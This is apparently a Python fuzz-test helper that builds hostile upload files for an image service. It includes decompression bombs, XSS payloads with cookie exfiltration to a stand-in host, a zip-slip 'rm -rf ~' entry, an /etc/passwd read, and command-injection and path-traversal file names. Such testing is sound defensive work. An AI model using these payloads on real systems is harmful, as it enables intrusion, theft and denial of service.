"""More than 200 bad files that a visitor might upload, the same at every run.

`python -m tests.helpers.pictures.bad_inputs FOLDER` writes them; `test_bad_inputs.py` gives each to
the Python API, the command line and the HTTP endpoint.
"""

import gzip
import io
import pickle
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
from PIL import Image

HEIGHT, WIDTH = 37, 53

# name -> arguments of Pillow's save
FORMATS: dict[str, dict[str, Any]] = {
    "jpeg": {"format": "JPEG", "quality": 90},
    "progressive": {"format": "JPEG", "quality": 80, "progressive": True},
    "png": {"format": "PNG"},
    "gif": {"format": "GIF"},
    "webp": {"format": "WEBP", "quality": 80},
    "lossless": {"format": "WEBP", "lossless": True},
    "bmp": {"format": "BMP"},
    "tiff": {"format": "TIFF", "compression": "tiff_lzw"},
    "deflate": {"format": "TIFF", "compression": "tiff_adobe_deflate"},
    "avif": {"format": "AVIF", "quality": 60},
    "ppm": {"format": "PPM"},
}
CUTS = (3, 12, 25, 60, 0.3, 0.6, 0.9, -1)
"""Lengths of cut files: bytes from the start, a share, or bytes from the end."""
FLIPS = 6


@dataclass(frozen=True)
class Case:
    """One bad input.

    Attributes:
        name: unique; describes the fault.
        data: the file.
        file_name: its name at the upload.
        expected: "error", "picture" (of `size`), or "either".
        size: (height, width) of the image, if it is one and this is known.
    """

    name: str
    data: bytes
    file_name: str = "photo.png"
    expected: str = "error"
    size: tuple[int, int] | None = None


def pixels() -> np.ndarray:
    """Return (37, 53, 3) uint8: a smooth image with some noise."""
    y, x = np.mgrid[:HEIGHT, :WIDTH]
    smooth = np.stack([x * 4, y * 6, 255 - x * 2 - y * 3], -1)
    noise = np.random.default_rng(0).integers(-9, 10, smooth.shape)
    return (smooth + noise).clip(0, 255).astype(np.uint8)


def encode(name: str) -> bytes:
    """Return the image in one of the formats."""
    file = io.BytesIO()
    Image.fromarray(pixels()).save(file, **FORMATS[name])
    return file.getvalue()


def cut_files() -> Iterator[Case]:
    """Yield every format, cut at many places."""
    for form in FORMATS:
        data = encode(form)
        for cut in CUTS:
            end = int(len(data) * cut) if isinstance(cut, float) else cut
            yield Case(f"{form} cut at {cut}", data[:end], expected="either", size=(HEIGHT, WIDTH))


def flipped_files() -> Iterator[Case]:
    """Yield every format with flipped bits, most of them after the header."""
    for number, form in enumerate(FORMATS):
        for seed in range(FLIPS):
            rng = np.random.default_rng([number, seed])
            data = np.frombuffer(encode(form), np.uint8).copy()
            start = 0 if seed == 0 else min(len(data) // 2, 40 * seed)
            at = rng.integers(start, len(data), 1 + seed)
            data[at] ^= (1 << rng.integers(0, 8, len(at))).astype(np.uint8)
            yield Case(f"{form} with {1 + seed} bits flipped", data.tobytes(), expected="either")


def chunk(kind: bytes, data: bytes, *, crc: int | None = None, length: int | None = None) -> bytes:
    """Return a PNG's chunk, with a false checksum or length if given."""
    check = zlib.crc32(kind + data) if crc is None else crc
    size = len(data) if length is None else length
    return struct.pack(">I", size) + kind + data + struct.pack(">I", check)


def png(*parts: bytes, size: tuple[int, int] = (8, 8), kind: tuple[int, int] = (8, 2)) -> bytes:
    """Return a PNG with these chunks after its header.

    Args:
        parts: the chunks.
        size: (height, width) in the header.
        kind: (bit depth, colour type) in the header.
    """
    header = struct.pack(">IIBBBBB", size[1], size[0], *kind, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + b"".join(parts)


IDAT = chunk(b"IDAT", zlib.compress(bytes(8 * 25)))
IEND = chunk(b"IEND", b"")


def zeros(megabytes: int) -> bytes:
    """Return zeros of some megabytes, compressed."""
    pack = zlib.compressobj(6)
    block = bytes(1 << 20)
    return b"".join(pack.compress(block) for _ in range(megabytes)) + pack.flush()


def claiming(form: str, height: int, width: int) -> bytes:
    """Return a small file whose header claims another size."""
    if form == "png":
        return png(IDAT, IEND, size=(height, width))
    data = bytearray(encode(form))
    if form == "gif":
        data[6:10] = struct.pack("<HH", width & 0xFFFF, height & 0xFFFF)
    elif form == "bmp":
        data[18:26] = struct.pack("<ii", width, height)
    elif form in ("jpeg", "progressive"):
        at = max(data.find(b"\xff\xc0"), data.find(b"\xff\xc2"))
        data[at + 5 : at + 9] = struct.pack(">HH", height & 0xFFFF, width & 0xFFFF)
    elif form == "lossless":  # 14 bits each, minus one
        data[21:25] = struct.pack("<I", (width - 1) & 0x3FFF | ((height - 1) & 0x3FFF) << 14)
    elif form == "webp":
        data[26:30] = struct.pack("<HH", width & 0x3FFF, height & 0x3FFF)
    elif form in ("tiff", "deflate"):
        for tag, value, old in ((256, width, WIDTH), (257, height, HEIGHT)):
            at = data.index(struct.pack("<HHII", tag, 3, 1, old))  # a short: made a long
            data[at : at + 12] = struct.pack("<HHII", tag, 4, 1, value)
    elif form == "ppm":
        data = data.replace(b"%d %d" % (WIDTH, HEIGHT), b"%d %d" % (width, height), 1)
    return bytes(data)


def sizes() -> Iterator[Case]:
    """Yield files whose header claims no pixels, or far too many."""
    for form in ("png", "gif", "jpeg", "bmp", "tiff", "ppm"):
        for height, width in ((0, WIDTH), (HEIGHT, 0), (0, 0)):
            yield Case(f"{form} of {height} x {width}", claiming(form, height, width))
    for form in ("png", "gif", "jpeg", "progressive", "bmp", "tiff", "ppm", "webp", "lossless"):
        yield Case(f"{form} claiming 16,000 x 16,000", claiming(form, 16_000, 16_000))
    for form in ("png", "bmp", "tiff", "ppm"):
        yield Case(f"{form} claiming 2 billion rows", claiming(form, 2**31 - 1, 1))
        yield Case(f"{form} claiming 60,000 x 60,000", claiming(form, 60_000, 60_000))
    for form in ("png", "jpeg", "bmp", "ppm", "webp", "tiff"):
        case = f"{form} claiming 2,000 x 2,000"
        yield Case(case, claiming(form, 2000, 2000), expected="either", size=(2000, 2000))
    yield Case("bmp with rows below zero", claiming("bmp", -HEIGHT, WIDTH), expected="either")
    yield Case("bmp of minus one column", claiming("bmp", HEIGHT, -1))
    yield Case("bmp claiming -2^31 rows", claiming("bmp", -(2**31), WIDTH))


def bombs() -> Iterator[Case]:
    """Yield small files that decompress to large ones."""
    rows = zeros(48)
    black = chunk(b"IDAT", rows) + IEND
    yield Case("png bomb of 20,000 x 20,000", png(black, size=(20_000, 20_000), kind=(1, 0)))
    yield Case("png bomb behind 8 x 8", png(black), expected="either", size=(8, 8))
    gif = b"GIF89a" + struct.pack("<HH", 30_000, 30_000) + b"\x80\0\0" + bytes(6)
    gif += b"," + struct.pack("<HHHHB", 0, 0, 30_000, 30_000, 0) + b"\x02"
    yield Case("gif bomb", gif + b"\xff" * 60_000 + b"\0;")
    frames = gif[:6] + struct.pack("<HH", 8, 8) + gif[10:19]
    frame = b"," + struct.pack("<HHHHB", 0, 0, 8, 8, 0) + b"\x02\x02\x44\x01\0"
    yield Case("gif of 100,000 frames", frames + frame * 100_000 + b";", expected="either")
    vp8x = b"VP8X" + struct.pack("<I", 10) + b"\x02\0\0\0" + b"\x3f\x3f\0" * 2
    body = b"WEBP" + vp8x + b"ANIM" + struct.pack("<IIH", 6, 0, 0)
    yield Case("webp bomb", b"RIFF" + struct.pack("<I", len(body)) + body)
    tiff = tiff_of([(256, 25_000), (257, 25_000), (258, 8), (259, 8), (262, 1), (277, 1)], rows)
    yield Case("tiff bomb", tiff)
    small = tiff_of([(256, 8), (257, 8), (258, 8), (259, 8), (262, 1), (277, 1)], rows)
    yield Case("tiff bomb behind 8 x 8", small, expected="either", size=(8, 8))
    yield Case("png text bomb", png(chunk(b"zTXt", b"a\0\0" + rows), IDAT, IEND), expected="either")
    many = chunk(b"zTXt", b"a\0\0" + zeros(4)) * 40
    yield Case("png with 40 text bombs", png(many, IDAT, IEND), expected="either")
    profile = chunk(b"iCCP", b"p\0\0" + rows)
    yield Case("png colour profile bomb", png(profile, IDAT, IEND), expected="either")
    yield Case("gzip bomb", gzip.compress(bytes(10 << 20)))
    yield Case("svgz", gzip.compress(b"<svg xmlns='http://www.w3.org/2000/svg'/>"), "photo.svgz")
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zipped:
        zipped.writestr("photo.png", bytes(20 << 20))
    yield Case("zip bomb", archive.getvalue(), "photos.zip")


def tiff_of(entries: list[tuple[int, int]], strip: bytes, *, next_at: int | None = None) -> bytes:
    """Return a TIFF of one strip with these short entries."""
    entries = sorted([*entries, (273, 0), (278, 1 << 16), (279, len(strip))])
    at = 8 + 2 + 12 * len(entries) + 4
    body = struct.pack("<H", len(entries))
    for tag, value in entries:
        kind, value = (4, at) if tag == 273 else (4, value)
        body += struct.pack("<HHII", tag, kind, 1, value)
    return b"II*\0" + struct.pack("<I", 8) + body + struct.pack("<I", next_at or 0) + strip


def inconsistent_files() -> Iterator[Case]:
    """Yield PNG, GIF and JPEG files with inconsistent structures."""
    ok = {"expected": "either"}
    yield Case("png without pixels", png(IEND))
    yield Case("png without an end", png(IDAT), **ok)
    yield Case("png without a header", b"\x89PNG\r\n\x1a\n" + IDAT + IEND)
    yield Case("png with two headers", png(png()[8:], IDAT, IEND), **ok)
    yield Case("png with wrong checksums", png(chunk(b"IDAT", IDAT[8:-4], crc=1), IEND), **ok)
    yield Case(
        "png chunk of 4 GB", png(chunk(b"tEXt", b"a\0b", length=2**32 - 1), IDAT, IEND), **ok
    )
    yield Case("png pixels of 2 GB", png(chunk(b"IDAT", b"", length=2**31 - 1)), **ok)
    yield Case("png with pixels that are noise", png(chunk(b"IDAT", b"noise" * 9), IEND), **ok)
    yield Case("png without its palette", png(IDAT, IEND, kind=(8, 3)), **ok)
    palette = chunk(b"PLTE", b"\xff\0\0")
    high = chunk(b"IDAT", zlib.compress(b"\0" + b"\xfe" * 8) * 8)
    yield Case("png beyond its palette", png(palette, high, IEND, kind=(8, 3)), **ok)
    for kind in ((3, 2), (8, 1), (8, 7), (32, 2), (0, 0), (16, 3)):
        yield Case(f"png of depth {kind[0]} and type {kind[1]}", png(IDAT, IEND, kind=kind), **ok)
    yield Case("apng of no frames", png(chunk(b"acTL", bytes(8)), IDAT, IEND), **ok)
    acts = chunk(b"acTL", struct.pack(">II", 2**31 - 1, 0))
    yield Case("apng of 2 billion frames", png(acts, IDAT, IEND), **ok)
    jpeg = encode("jpeg")
    for marker, what in ((0xC4, "Huffman tables"), (0xDB, "quantisation"), (0xC0, "frame")):
        at = jpeg.index(bytes([0xFF, marker]))
        size = 2 + int.from_bytes(jpeg[at + 2 : at + 4], "big")
        yield Case(f"jpeg without its {what}", jpeg[:at] + jpeg[at + size :], **ok)
    exif = b"\xff\xe1\xff\xffExif\0\0"
    yield Case("jpeg metadata beyond the end", jpeg[:2] + exif + jpeg[2:], **ok)
    yield Case("jpeg of many segments", jpeg[:2] + b"\xff\xe0\0\x02" * 60_000 + jpeg[2:], **ok)
    for count in (1, 255):
        icc = b"\xff\xe2\0\x20ICC_PROFILE\0" + bytes([1, count]) + bytes(16)
        yield Case(f"jpeg with a torn profile of {count}", jpeg[:2] + icc + jpeg[2:], **ok)
    gif = bytearray(encode("gif"))
    at = gif.index(b",", 13 + 768)
    for size in (0, 13, 255):
        changed = bytes(gif[: at + 10]) + bytes([size]) + bytes(gif[at + 11 :])
        yield Case(f"gif with codes of {size} bits", changed, **ok)
    yield from other_inconsistent_files()


def other_inconsistent_files() -> Iterator[Case]:
    """Yield TIFF, WebP, AVIF, BMP and PPM files with inconsistent structures."""
    ok = {"expected": "either"}
    here = struct.pack("<I", 8)
    yield Case("tiff pointing at itself", tiff_of([(256, 8), (257, 8)], bytes(64), next_at=8), **ok)
    yield Case("tiff of one empty directory", b"II*\0" + here + bytes(6))
    yield Case("tiff beyond its end", b"II*\0\xff\xff\xff\xff")
    loop = struct.pack("<H", 3) + struct.pack("<HHII", 34665, 4, 1, 8) * 3 + bytes(4)
    yield Case("tiff with metadata within itself", b"II*\0" + here + loop)
    yield Case("big tiff of nothing", b"II+\0\x08\0\0\0" + b"\xff" * 8)
    webp = encode("webp")
    yield Case("webp of 4 GB", webp[:4] + b"\xff\xff\xff\xff" + webp[8:], **ok)
    yield Case("webp of 0 bytes", webp[:4] + bytes(4) + webp[8:], **ok)
    yield Case("webp with an unknown part", webp[:12] + b"EVIL" + webp[16:])
    avif = encode("avif")
    yield Case("avif box of no length", bytes(4) + avif[4:], **ok)
    yield Case("avif box of 4 GB", b"\xff\xff\xff\xff" + avif[4:], **ok)
    at = avif.index(b"meta") - 4
    yield Case("avif box within itself", avif[: at + 12] + avif[at:], **ok)
    yield Case(
        "bmp with pixels before the file",
        encode("bmp")[:10] + b"\xff" * 4 + encode("bmp")[14:],
        **ok,
    )
    yield Case("ppm without numbers", b"P6\n# comment without an end")
    yield Case("ppm of many digits", b"P6 " + b"9" * 5000 + b" 1 255\n")
    yield Case("ppm of a negative size", b"P6 -5 5 255\n" + bytes(75))


SCRIPT = b"<script>fetch('http://127.0.0.1:9/'+document.cookie)</script>"


def others() -> Iterator[Case]:
    """Yield files that are no images, most of them with an image's name."""
    svg = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>" + SCRIPT + b"</svg>"
    entity = b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'aaaa'>]><svg>&a;</svg>"
    yield from (
        Case("nothing", b""),
        Case("a space", b" "),
        Case("text", b"dear diary, " * 50, "photo.jpg"),
        Case("text of 20 MB", b"dear diary, " * 1_700_000, "photo.jpg"),
        Case("HTML with a script", b"<!doctype html>" + SCRIPT, "photo.html"),
        Case("SVG with a script", svg, "photo.svg"),
        Case("SVG called PNG", svg, "photo.png"),
        Case("SVG with entities", entity, "photo.svg"),
        Case("PDF", b"%PDF-1.7\n1 0 obj<</JS(app.alert(1))>>endobj", "photo.pdf"),
        Case("PostScript", b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd)(r)file", "photo.eps"),
        Case("pickle", pickle.dumps({"a": 1}), "photo.pkl"),
        Case("program", b"\x7fELF" + bytes(500), "photo.exe"),
        Case("icon", b"\0\0\1\0\1\0" + bytes(50), "photo.ico"),
        Case("Photoshop", b"8BPS\0\1" + bytes(50), "photo.psd"),
        Case("JPEG 2000", b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(50), "photo.jp2"),
        Case("JPEG XL", b"\xff\x0a" + bytes(50), "photo.jxl"),
        Case("video", b"\0\0\0\x18ftypisom" + bytes(500), "photo.mp4"),
        Case("HEIC", b"\0\0\0\x18ftypheic\0\0\0\0heicmif1" + bytes(80), "photo.heic"),
        Case("NumPy array", b"\x93NUMPY\x01\0" + bytes(90), "photo.npy"),
        Case("JSON", b'{"path": "/etc/passwd"}', "photo.json"),
        Case("UTF-16 text", "Grüße".encode("utf-16"), "photo.txt"),
        Case("zeros", bytes(10_000)),
        Case("0xFF", b"\xff" * 10_000),
        Case("FLI film", struct.pack("<IHHHH", 500, 0xAF12, 10, 8, 8) + bytes(500), "photo.fli"),
        Case("Sun raster", b"\x59\xa6\x6a\x95" + bytes(60), "photo.ras"),
        Case("GIF with a program", b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)"),
    )
    for seed in range(6):
        noise = np.random.default_rng(seed).integers(0, 256, 5000, np.uint8).tobytes()
        yield Case(f"noise {seed}", noise)
    for form in ("jpeg", "png", "gif", "webp", "bmp", "tiff", "avif"):
        start = encode(form)[:16]
        noise = np.random.default_rng(9).integers(0, 256, 5000, np.uint8).tobytes()
        yield Case(f"{form} of noise", start + noise)
        yield Case(f"{form} of nothing but its beginning", start)
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("../../evil.sh", "rm -rf ~")
    good = {"expected": "picture", "size": (HEIGHT, WIDTH)}
    yield Case("jpeg that is a ZIP, too", encode("jpeg") + archive.getvalue(), **good)
    yield Case("png that is HTML, too", encode("png") + SCRIPT, **good)


NAMES = (
    "../../../../etc/cron.d/evil.png",
    "..\\..\\evil.png",
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    "a" * 500 + ".png",
    "ü" * 250 + ".png",
    "new\nline.png",
    "escape\x1b[2J\x07.png",
    "\u202egnp.exe",
    "nul\0byte.png",
    "-rf --help.png",
    "<img src=x onerror=alert(1)>.png",
    "{0}%s%n$(id)`id`.png",
    ".htaccess",
    "CON",
    " ",
    "photo.png.exe",
    "emoji \U0001f600.png",
    "\ud800.png".encode("utf-8", "replace").decode(),
)


def odd_names() -> Iterator[Case]:
    """Yield a good image with odd file names."""
    data = encode("png")
    for number, name in enumerate(NAMES):
        yield Case(f"name {number}", data, name, "picture", (HEIGHT, WIDTH))


MAKERS: tuple[Callable[[], Iterator[Case]], ...] = (
    cut_files,
    flipped_files,
    sizes,
    bombs,
    inconsistent_files,
    others,
    odd_names,
)


def cases() -> list[Case]:
    """Return all cases, each name once."""
    made = [case for maker in MAKERS for case in maker()]
    assert len({case.name for case in made}) == len(made)
    return made


def main(folder: Path) -> None:
    """Write every case into a folder, numbered."""
    folder.mkdir(parents=True, exist_ok=True)
    for number, case in enumerate(cases()):
        (folder / f"{number:03d}{Path(case.file_name).suffix[:5]}").write_bytes(case.data)
        print(f"{number:03d}\t{case.expected}\t{len(case.data)}\t{case.name}")


if __name__ == "__main__":
    main(Path(sys.argv[1]))
